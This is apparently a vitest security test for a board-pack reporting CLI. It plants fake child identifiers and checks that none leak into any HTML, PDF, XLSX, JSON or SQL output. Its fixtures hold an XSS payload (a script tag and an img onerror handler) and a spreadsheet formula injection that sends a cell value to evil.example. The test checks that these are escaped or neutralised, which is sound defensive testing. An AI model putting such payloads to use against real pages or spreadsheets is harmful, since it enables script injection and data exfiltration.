/**
 * Issue #10, output safety, on a copy of the sample partnership built by the real CLI:
 * - personal identifiers planted in the record-level extract (child_id) reach no output file — HTML, PDF text,
 *   XLSX XML, JSON, compiled SQL, manifest, validation reports — not even through an indicator whose own SQL
 *   returns child_id as its area;
 * - hostile text in the config (markup, a formula) is escaped in HTML and neutralised in the XLSX.
 */
import { cpSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT, pdfToText, runCliHere, type CliResult } from '../helpers/cli.js';
import { tempDir } from './helpers/files.js';

const SAMPLE = path.join(REPO_ROOT, 'sample-data');
const EXTRACT = readdirSync(path.join(SAMPLE, 'extracts')).find((f) => /^social_care_episodes_.*\.csv$/.test(f))!;
const PII = /ZQPII\d{7}/;
const MARKUP = '<script>window.__bp_pwned=1</script><img src=x onerror="alert(1)">';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';

let root: string;
let out: string;
let run: CliResult;
let planted = 0;

function listFiles(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((name) => {
    const p = path.join(dir, name);
    return statSync(p).isDirectory() ? listFiles(p) : [p];
  });
}

/** The text of every entry of a zip (XLSX), via the system's unzip. */
function unzipText(file: string): string | undefined {
  const r = spawnSync('unzip', ['-p', file], { maxBuffer: 256 * 1024 * 1024 });
  return r.status === 0 ? r.stdout.toString('utf8') : undefined;
}

beforeAll(async () => {
  root = path.join(tempDir('bp-pii-'), 'sample');
  cpSync(SAMPLE, root, { recursive: true });
  out = path.join(root, 'out');
  // Plant a unique identifier on every row (distinct children stay distinct, so every count is unchanged).
  const file = path.join(root, 'extracts', EXTRACT);
  const ids = new Map<string, string>();
  const lines = readFileSync(file, 'utf8').split('\n');
  const col = lines[0].split(',').indexOf('child_id');
  expect(col).toBeGreaterThanOrEqual(0);
  for (let i = 1; i < lines.length; i++) {
    if (!lines[i]) continue;
    const cells = lines[i].split(',');
    if (!ids.has(cells[col])) ids.set(cells[col], `ZQPII${String(ids.size + 1).padStart(7, '0')}`);
    cells[col] = ids.get(cells[col])!;
    lines[i] = cells.join(',');
    planted++;
  }
  writeFileSync(file, lines.join('\n'));
  // Hostile text where a user or a shared library could put it.
  const cfg = path.join(root, 'boardpack.yaml');
  writeFileSync(cfg, readFileSync(cfg, 'utf8').replace('  name: Brackenfield Children and Families Partnership', `  name: ${JSON.stringify(`Brackenfield ${MARKUP}`)}`));
  const ind = path.join(root, 'indicators', 'children_in_care.yaml');
  writeFileSync(ind, readFileSync(ind, 'utf8')
    .replace('title: Children in care\n', `title: ${JSON.stringify(FORMULA)}\n`)
    .replace(/^description: .*$/m, `description: ${JSON.stringify(`Looked after children ${MARKUP}`)}`));
  // An indicator from a "shared library" that tries to publish the identifiers as its areas and periods.
  writeFileSync(path.join(root, 'indicators', 'leaky.yaml'), `id: leaky
title: Leaky indicator
kind: performance_measure
question: how_much
priority: confident_parents
polarity: none
unit: count
sql: |
  SELECT child_id AS period, child_id AS area, count(*) AS numerator FROM social_care_episodes GROUP BY child_id
`);
  // One that yields rows whose periods are not period ids: dropped, counted, never echoed.
  writeFileSync(path.join(root, 'indicators', 'stray.yaml'), `id: stray
title: Stray indicator
kind: performance_measure
question: how_much
priority: confident_parents
polarity: none
unit: count
sql: |
  SELECT strftime(start_date, '%d/%m/%Y') AS period, 'all' AS area, count(*) AS numerator FROM social_care_episodes GROUP BY ALL
`);
  run = await runCliHere(['run', '--project', root, '--out', out]);
}, 600_000);

describe('output safety on the sample with planted identifiers', () => {
  it('builds the pack, reporting the leaky and stray indicators without their values', () => {
    expect(planted).toBeGreaterThan(1000);
    expect(run.status, run.stderr).toBe(1);
    // Identifiers used other than to count are refused before the SQL runs; stray rows are dropped after.
    expect(run.stderr).toContain('BP_SQL_IDENTIFIER');
    expect(run.stderr).toContain('BP_MEASURE_STRAY_ROWS');
    for (const f of ['board-pack.html', 'scorecard.xlsx', 'results.json']) expect(existsSync(path.join(out, f)), f).toBe(true);
  });

  it('no output file contains a planted identifier', () => {
    const files = [...listFiles(out), ...listFiles(path.join(root, '.boardpack')).filter((f) => !/\.duckdb(\.wal)?$/.test(f))];
    expect(files.length).toBeGreaterThan(5);
    const checked: string[] = [];
    for (const f of files) {
      let text: string | undefined;
      if (f.endsWith('.pdf')) text = pdfToText(f);
      else if (f.endsWith('.xlsx')) text = unzipText(f);
      else text = readFileSync(f, 'latin1');
      if (text === undefined) continue; // pdftotext / unzip absent: that file cannot be read back here
      checked.push(path.relative(root, f));
      expect(PII.exec(text)?.[0], `${path.relative(root, f)} leaks an identifier`).toBeUndefined();
    }
    expect(checked.some((f) => f.endsWith('results.json'))).toBe(true);
    expect(checked.some((f) => f.endsWith('.html'))).toBe(true);
    expect(checked.some((f) => f.endsWith('.sql'))).toBe(true);
    // Nor does anything the CLI printed.
    expect(PII.exec(run.stdout + run.stderr)?.[0]).toBeUndefined();
  });

  it('the identifiers did reach the warehouse (so the search above could have found them)', async () => {
    const { openWarehouse } = await import('../../src/warehouse/db.js');
    const wh = await openWarehouse(path.join(root, '.boardpack', 'warehouse.duckdb'), { readOnly: true });
    try {
      const [{ n }] = await wh.all<{ n: number }>(`SELECT count(*)::INTEGER AS n FROM social_care_episodes WHERE child_id LIKE 'ZQPII%'`);
      expect(n).toBe(planted);
    } finally {
      wh.close();
    }
  });

  it('escapes hostile markup in the HTML: no script and no event handler from the input', () => {
    const html = readFileSync(path.join(out, 'board-pack.html'), 'utf8');
    expect(html).not.toContain('<script>window.__bp_pwned');
    expect(html).not.toMatch(/<img[^>]*onerror/i);
    expect(html).toContain('&lt;script&gt;window.__bp_pwned');
    expect(html).not.toMatch(/<script\b/i); // the pack carries no script at all
  });

  it('the PDF shows the markup as text (JavaScript never ran)', () => {
    const pdf = path.join(out, 'board-pack.pdf');
    const text = existsSync(pdf) ? pdfToText(pdf) : undefined;
    if (text === undefined) return expect(existsSync(pdf) ? 'pdftotext missing' : 'no PDF').toBeTruthy();
    expect(text.replace(/\s+/g, ' ')).toContain('<script>window.__bp_pwned=1</script>');
  });

  it('neutralises a formula in the XLSX: stored as text with a leading apostrophe, never as a formula', () => {
    const xml = unzipText(path.join(out, 'scorecard.xlsx'));
    if (xml === undefined) return;
    expect(xml).not.toMatch(/<f>[^<]*HYPERLINK/);
    const decoded = xml.replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/&apos;/g, "'");
    expect(decoded).toContain(`'${FORMULA}`);
    expect(decoded).not.toMatch(/<t[^>]*>=HYPERLINK/);
  });
});
